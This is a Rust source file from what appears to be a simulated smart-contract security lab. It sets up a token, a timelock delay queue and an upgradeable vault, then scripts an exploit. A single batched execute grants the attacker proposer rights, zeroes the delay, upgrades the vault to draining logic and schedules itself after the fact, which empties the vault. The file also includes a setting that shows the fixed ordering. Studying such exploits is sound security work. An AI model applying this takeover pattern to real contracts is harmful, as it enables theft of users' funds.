//! Timelocked vault takeover.
//!
//! A vault holds tokens behind an upgradeable proxy owned by a delay queue.
//! The queue runs every call of a unit with itself as caller-of-record
//! before checking whether the unit was ever scheduled, so a single
//! `execute` can grant the attacker's executor the proposer role, zero the
//! delay, point the vault at attacker logic and finally have the executor
//! schedule that very unit after the fact.

use tracing::info;

use crate::chain::{Account, Address, Amount, Payload, Timestamp, World, tokens};
use crate::config::ScenarioParams;
use crate::error::{CallError, ConfigError, HeistError, ScenarioError};
use crate::exec::{BatchExecutor, Call, ExecutorCall};
use crate::governance::{DelayQueue, QueueCall, ReadinessCheck, Role};
use crate::scenario::verifier::{Expectation, verify};
use crate::scenario::{Actor, Outcome};
use crate::targets::{TokenCall, TokenLedger, VaultCall, VaultLogic, VaultProxy};

pub const NAME: &str = "climber";

/// Default delay queue delay, in seconds.
pub const DEFAULT_DELAY: u64 = 60 * 60;

/// Default whole tokens held by the vault.
pub const DEFAULT_VAULT_TOKENS: u64 = 10_000_000;

/// Native value the attacker starts with (0.1 of the native unit).
pub const PLAYER_NATIVE: Amount = tokens(1) / 10;

/// Default chain clock at deployment.
pub const DEFAULT_START: Timestamp = 1_700_000_000;

/// Deployment parameters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ClimberParams {
    pub delay: u64,
    pub readiness: ReadinessCheck,
    pub vault_tokens: u64,
    pub start_time: Timestamp,
}

impl Default for ClimberParams {
    fn default() -> Self {
        Self {
            delay: DEFAULT_DELAY,
            readiness: ReadinessCheck::AfterUnit,
            vault_tokens: DEFAULT_VAULT_TOKENS,
            start_time: DEFAULT_START,
        }
    }
}

impl ClimberParams {
    /// Applies configured overrides on top of the defaults.
    ///
    /// # Errors
    ///
    /// Returns [`ConfigError::InvalidValue`] for a malformed delay.
    pub fn from_config(params: &ScenarioParams) -> Result<Self, ConfigError> {
        let defaults = Self::default();
        let delay = match &params.delay {
            Some(spec) => spec.as_secs().map_err(|e| ConfigError::InvalidValue {
                field: "params.delay".to_string(),
                value: spec.to_string(),
                expected: format!("a duration ({e})"),
            })?,
            None => defaults.delay,
        };
        Ok(Self {
            delay,
            readiness: params.readiness.unwrap_or(defaults.readiness),
            vault_tokens: params.target_tokens.unwrap_or(defaults.vault_tokens),
            start_time: params.start_time.unwrap_or(defaults.start_time),
        })
    }
}

/// Deployed system, ready to be attacked.
#[derive(Debug, Clone)]
pub struct ClimberSetup {
    pub world: World,
    pub deployer: Address,
    pub proposer: Address,
    pub sweeper: Address,
    pub player: Address,
    pub token: Address,
    pub queue: Address,
    pub vault: Address,
    pub vault_balance: Amount,
}

/// Deploys the token, the delay queue and the vault, and funds the vault.
///
/// # Errors
///
/// Fails if the delay is above the queue's maximum or funding fails.
pub fn bootstrap(params: &ClimberParams) -> Result<ClimberSetup, CallError> {
    let mut world = World::new(params.start_time);
    let deployer = world.create_external("climber/deployer");
    let proposer = world.create_external("climber/proposer");
    let sweeper = world.create_external("climber/sweeper");
    let player = world.create_external("climber/player");
    world.set_native_balance(player, PLAYER_NATIVE);

    let token = world.deploy(
        Address::derive("climber/token"),
        Account::Token(TokenLedger::new("DVT", deployer, Amount::MAX)),
    );

    let queue = Address::derive("climber/timelock");
    world.deploy(
        queue,
        Account::Queue(DelayQueue::new(
            queue,
            deployer,
            proposer,
            params.delay,
            params.readiness,
        )?),
    );

    let logic = world.deploy(
        Address::derive("climber/vault-logic"),
        Account::Implementation(VaultLogic::Guarded),
    );
    let vault = world.deploy(
        Address::derive("climber/vault"),
        Account::Proxy(VaultProxy::new(logic, queue, sweeper, world.now())),
    );

    let vault_balance = tokens(params.vault_tokens);
    world.transact(
        deployer,
        token,
        0,
        &Payload::encode(&TokenCall::Transfer {
            to: vault,
            amount: vault_balance,
        }),
    )?;

    info!(
        %queue,
        %vault,
        delay = params.delay,
        readiness = %params.readiness,
        "climber deployed"
    );

    Ok(ClimberSetup {
        world,
        deployer,
        proposer,
        sweeper,
        player,
        token,
        queue,
        vault,
        vault_balance,
    })
}

/// The unit the attacker submits to the queue.
#[must_use]
pub fn takeover_calls(
    queue: Address,
    vault: Address,
    executor: Address,
    attacker_logic: Address,
) -> Vec<Call> {
    vec![
        Call::new(
            queue,
            Payload::encode(&QueueCall::GrantRole {
                role: Role::Proposer,
                account: executor,
            }),
        ),
        Call::new(queue, Payload::encode(&QueueCall::UpdateDelay { delay: 0 })),
        Call::new(
            vault,
            Payload::encode(&VaultCall::UpgradeTo {
                implementation: attacker_logic,
            }),
        ),
        Call::new(executor, Payload::encode(&ExecutorCall::Run)),
    ]
}

/// Runs the takeover as the player.
///
/// # Errors
///
/// Returns the failing transaction. Under before-unit readiness the final
/// `execute` fails with `NotReady` and leaves the vault untouched.
pub fn attack(setup: &mut ClimberSetup) -> Result<(), CallError> {
    let ClimberSetup {
        world,
        player,
        token,
        queue,
        vault,
        ..
    } = setup;
    let (player, token, queue, vault) = (*player, *token, *queue, *vault);

    let attacker_logic = world.deploy(
        Address::derive("climber/player/sweeping-logic"),
        Account::Implementation(VaultLogic::Sweeping {
            beneficiary: player,
        }),
    );
    let executor = world.deploy(
        Address::derive("climber/player/executor"),
        Account::Executor(BatchExecutor::new(player)),
    );

    let calls = takeover_calls(queue, vault, executor, attacker_logic);
    let follow_up = [
        Call::new(
            queue,
            Payload::encode(&QueueCall::Schedule {
                calls: calls.clone(),
                salt: 0,
            }),
        ),
        Call::new(vault, Payload::encode(&VaultCall::SweepFunds { token })),
    ];
    for call in follow_up {
        world.transact(
            player,
            executor,
            0,
            &Payload::encode(&ExecutorCall::AddCall {
                target: call.target,
                value: call.value,
                payload: call.payload,
            }),
        )?;
    }

    world.transact(
        player,
        queue,
        0,
        &Payload::encode(&QueueCall::Execute { calls, salt: 0 }),
    )?;
    Ok(())
}

/// Success condition: the vault is empty and the player holds its funds.
#[must_use]
pub fn expectations(setup: &ClimberSetup) -> Vec<Expectation> {
    vec![
        Expectation {
            label: "vault drained",
            token: setup.token,
            holder: setup.vault,
            expected: 0,
        },
        Expectation {
            label: "player holds vault funds",
            token: setup.token,
            holder: setup.player,
            expected: setup.vault_balance,
        },
    ]
}

/// Bootstraps, attacks and verifies.
///
/// # Errors
///
/// Fails on invalid parameters or a failed bootstrap. A failed attack is
/// reported in the returned [`Outcome`].
pub fn run(params: &ScenarioParams) -> Result<Outcome, HeistError> {
    let params = ClimberParams::from_config(params)?;
    let mut setup = bootstrap(&params).map_err(|source| ScenarioError::Bootstrap {
        scenario: NAME,
        source,
    })?;
    let logs_from = setup.world.logs().len();

    let attack = attack(&mut setup);
    let verdict = verify(&setup.world, &expectations(&setup)).map_err(CallError::from)?;

    Ok(Outcome {
        scenario: NAME,
        actors: vec![
            Actor::new("deployer", setup.deployer),
            Actor::new("proposer", setup.proposer),
            Actor::new("sweeper", setup.sweeper),
            Actor::new("player", setup.player),
            Actor::new("token", setup.token),
            Actor::new("timelock", setup.queue),
            Actor::new("vault", setup.vault),
        ],
        readiness: Some(params.readiness),
        attack,
        verdict,
        logs: setup.world.logs()[logs_from..].to_vec(),
    })
}
